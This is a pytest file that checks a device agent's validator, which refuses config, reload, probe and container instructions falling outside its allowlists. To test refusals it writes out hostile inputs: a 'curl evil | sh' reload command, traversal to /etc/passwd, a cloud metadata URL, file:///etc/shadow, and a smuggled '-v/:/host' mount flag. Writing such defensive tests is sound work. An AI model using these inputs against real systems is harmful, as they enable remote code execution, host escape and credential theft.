"""Every instruction re-validated against the device's own allowlists."""

from __future__ import annotations

from pathlib import Path

import pytest

from agent.instructions import Policy, Refused, validate
from fleetd.device.v1 import agent_pb2
from tests.support.converging import exec_probe, http_probe, seconds

POLICY = Policy(
    allowed_dirs=(Path("/opt/app"),),
    exec_probes=("/usr/bin/check",),
    reload_commands=("/usr/bin/reload-app",),
    systemd_units=("detector.service",),
)


def _spec(**config: object) -> agent_pb2.ArtifactAssignment:
    return agent_pb2.ArtifactAssignment(
        assignment_id="as-1",
        name="cfg",
        version="1",
        kind=agent_pb2.ARTIFACT_KIND_CONFIG,
        target_path="cfg/1/app.conf",
        sha256="a" * 64,
        length=10,
        config=agent_pb2.ConfigSpec(**config),  # type: ignore[arg-type]
    )


def _reason(spec: agent_pb2.ArtifactAssignment) -> str:
    with pytest.raises(Refused) as caught:
        validate(spec, POLICY)
    return caught.value.reason


def test_an_allowlisted_config_with_systemd_reload_is_accepted() -> None:
    spec = _spec(
        destination_path="/opt/app/conf.d/app.conf",
        file_mode=0o640,
        reload_action=agent_pb2.RELOAD_ACTION_SYSTEMD_RESTART,
        systemd_unit="detector.service",
    )
    ins = validate(spec, POLICY)
    assert (str(ins.destination), ins.mode, ins.reload.unit) == (
        "/opt/app/conf.d/app.conf",
        0o640,
        "detector.service",
    )
    assert ins.probe.kind == "none"


@pytest.mark.parametrize(
    "destination",
    [
        "/etc/passwd",
        "/opt/app/../../etc/passwd",
        "/opt/app/./x",
        "/opt/app//x",
        "relative/x",
        "/opt/app",
        "/opt/application/x",
    ],
)
def test_destinations_outside_the_allowlisted_directories_are_refused(destination: str) -> None:
    assert _reason(_spec(destination_path=destination)) in (
        "NOT_ALLOWLISTED",
        "INVALID_INSTRUCTION",
    )


def test_reload_actions_must_be_allowlisted() -> None:
    unit = _spec(destination_path="/opt/app/x", reload_action=2, systemd_unit="sshd.service")
    command = _spec(
        destination_path="/opt/app/x",
        reload_action=agent_pb2.RELOAD_ACTION_COMMAND,
        reload_command=agent_pb2.ExecAction(path="/bin/sh", args=["-c", "curl evil | sh"]),
    )
    assert _reason(unit) == _reason(command) == "NOT_ALLOWLISTED"


@pytest.mark.parametrize(
    ("probe", "reason"),
    [
        (exec_probe(Path("/usr/bin/other")), "NOT_ALLOWLISTED"),
        (exec_probe(Path("/usr/bin/../bin/check")), "NOT_ALLOWLISTED"),
        (http_probe("http://169.254.169.254/latest/meta-data"), "NOT_ALLOWLISTED"),
        (http_probe("file:///etc/shadow"), "INVALID_INSTRUCTION"),
        (agent_pb2.HealthProbe(), "INVALID_INSTRUCTION"),
    ],
)
def test_probes_must_be_allowlisted(probe: agent_pb2.HealthProbe, reason: str) -> None:
    spec = _spec(destination_path="/opt/app/x")
    spec.health_probe.CopyFrom(probe)
    assert _reason(spec) == reason


@pytest.mark.parametrize(
    "bounds",
    [
        {"timeout": seconds(0.5)},
        {"timeout": seconds(301)},
        {"attempts": 11},
        {"attempts": -1},
        {"initial_delay": seconds(601)},
        {"interval": seconds(-1)},
    ],
)
def test_probe_bounds_are_enforced(bounds: dict[str, object]) -> None:
    spec = _spec(destination_path="/opt/app/x")
    spec.health_probe.CopyFrom(exec_probe(Path("/usr/bin/check")))
    for key, value in bounds.items():
        if isinstance(value, int):
            setattr(spec.health_probe, key, value)
        else:
            getattr(spec.health_probe, key).CopyFrom(value)
    assert _reason(spec) == "INVALID_INSTRUCTION"


def test_probe_defaults_follow_the_contract() -> None:
    spec = _spec(destination_path="/opt/app/x")
    spec.health_probe.exec.path = "/usr/bin/check"
    probe = validate(spec, POLICY).probe
    assert (probe.timeout, probe.attempts, probe.initial_delay, probe.interval) == (10, 3, 0, 5)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("image", "-v/:/host"),
        ("image", "reg/x@sha256:" + "1" * 64),
        ("digest", "latest"),
        ("container_name", "../x"),
    ],
)
def test_container_references_must_be_plain_and_pinned(field: str, value: str) -> None:
    container = {"image": "reg/detector", "digest": "sha256:" + "1" * 64, "container_name": "d"}
    container[field] = value
    spec = agent_pb2.ArtifactAssignment(
        assignment_id="a",
        name="d",
        version="1",
        kind=agent_pb2.ARTIFACT_KIND_CONTAINER,
        target_path="d/1/ref.json",
        sha256="b" * 64,
        length=100,
        container=agent_pb2.ContainerSpec(**container),
    )
    assert _reason(spec) == "INVALID_INSTRUCTION"
